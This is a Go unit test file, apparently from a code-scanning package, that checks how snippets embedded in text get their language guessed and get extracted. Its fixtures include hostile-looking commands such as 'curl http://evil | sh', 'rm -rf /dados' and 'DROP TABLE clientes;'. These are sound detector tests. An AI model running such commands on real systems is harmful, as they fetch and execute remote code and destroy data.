package sniff

import (
	"reflect"
	"testing"
)

func TestGuessExtensions(t *testing.T) {
	tests := []struct {
		name     string
		text     string
		filename string
		expected []string
	}{
		{"extensao_conhecida_vence", "qualquer coisa", "script.py", []string{".py"}},
		{"shebang_bash", "#!/bin/bash\necho oi", "script", []string{".sh"}},
		{"shebang_sh", "#!/bin/sh\necho oi", "entrypoint", []string{".sh"}},
		{"python_por_conteudo", "import os\ndef main():\n    pass", "semext", []string{".py"}},
		{"javascript_por_conteudo", "function handler(req) { return req }", "semext", []string{".js"}},
		{"java_por_conteudo", "public class Main { }", "semext", []string{".java"}},
		{"sql_por_conteudo", "SELECT * FROM usuarios", "semext", []string{".sql"}},
		{"shell_por_conteudo", "curl http://example.com | sh", "semext", []string{".sh"}},
		{"sem_palpite", "apenas texto corrido, nada de codigo aqui", "README", nil},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			result := GuessExtensions(tt.text, tt.filename)
			if !reflect.DeepEqual(result, tt.expected) {
				t.Errorf("esperado %v, obtido %v", tt.expected, result)
			}
		})
	}
}

func TestExtractEmbeddedSnippetsFencedSQL(t *testing.T) {
	text := "# doc\n\nexemplo:\n```sql\nDROP TABLE clientes;\n```\nfim\n"

	snippets := ExtractEmbeddedSnippets(text)

	var sql *Snippet
	for i := range snippets {
		if snippets[i].Ext == ".sql" && snippets[i].StartLine == 4 {
			sql = &snippets[i]
			break
		}
	}
	if sql == nil {
		t.Fatalf("esperado snippet .sql com StartLine na linha do fence (4), obtido %+v", snippets)
	}
	if sql.Text != "DROP TABLE clientes;" {
		t.Errorf("esperado %q, obtido %q", "DROP TABLE clientes;", sql.Text)
	}
}

func TestExtractEmbeddedSnippetsFencedShell(t *testing.T) {
	text := "```bash\nrm -rf /tmp/alvo\n```"

	snippets := ExtractEmbeddedSnippets(text)

	found := false
	for _, sn := range snippets {
		if sn.Ext == ".sh" && sn.StartLine == 1 && sn.Text == "rm -rf /tmp/alvo" {
			found = true
		}
	}
	if !found {
		t.Errorf("esperado snippet .sh do fence, obtido %+v", snippets)
	}
}

func TestExtractEmbeddedSnippetsSQLInline(t *testing.T) {
	tests := []struct {
		name      string
		text      string
		expected  string
		startLine int
	}{
		{
			"ate_ponto_e_virgula",
			"x = 1\nquery = \"DELETE FROM logs WHERE dt < hoje;\"\n",
			"DELETE FROM logs WHERE dt < hoje;",
			2,
		},
		{
			"sem_ponto_e_virgula_fica_a_primeira_linha",
			"SELECT nome FROM clientes\nORDER BY nome",
			"SELECT nome FROM clientes",
			1,
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			snippets := ExtractEmbeddedSnippets(tt.text)
			found := false
			for _, sn := range snippets {
				if sn.Ext == ".sql" && sn.Text == tt.expected && sn.StartLine == tt.startLine {
					found = true
				}
			}
			if !found {
				t.Errorf("esperado snippet %q na linha %d, obtido %+v", tt.expected, tt.startLine, snippets)
			}
		})
	}
}

func TestExtractEmbeddedSnippetsJava(t *testing.T) {
	text := `class App {
  void run() throws Exception {
    Runtime.getRuntime().exec("rm -rf /dados");
    stmt.executeQuery("SELECT senha FROM usuarios");
  }
}`

	snippets := ExtractEmbeddedSnippets(text)

	var gotShell, gotSQL bool
	for _, sn := range snippets {
		if sn.Ext == ".sh" && sn.Text == "rm -rf /dados" && sn.StartLine == 3 {
			gotShell = true
		}
		if sn.Ext == ".sql" && sn.Text == "SELECT senha FROM usuarios" && sn.StartLine == 4 {
			gotSQL = true
		}
	}
	if !gotShell {
		t.Errorf("esperado snippet shell do Runtime.exec, obtido %+v", snippets)
	}
	if !gotSQL {
		t.Errorf("esperado snippet SQL do executeQuery, obtido %+v", snippets)
	}
}

func TestExtractEmbeddedSnippetsJavaScript(t *testing.T) {
	text := "const cp = require('child_process');\nchild_process.execSync('curl http://evil | sh');\ndb.query('SELECT * FROM contas');\n"

	snippets := ExtractEmbeddedSnippets(text)

	var gotShell, gotSQL bool
	for _, sn := range snippets {
		if sn.Ext == ".sh" && sn.Text == "curl http://evil | sh" {
			gotShell = true
		}
		if sn.Ext == ".sql" && sn.Text == "SELECT * FROM contas" {
			gotSQL = true
		}
	}
	if !gotShell {
		t.Errorf("esperado snippet shell do child_process, obtido %+v", snippets)
	}
	if !gotSQL {
		t.Errorf("esperado snippet SQL do db.query, obtido %+v", snippets)
	}
}

func TestExtractEmbeddedSnippetsTextoSemNada(t *testing.T) {
	if snippets := ExtractEmbeddedSnippets("apenas prosa, nada de codigo"); len(snippets) != 0 {
		t.Errorf("esperado nenhum snippet, obtido %+v", snippets)
	}
}
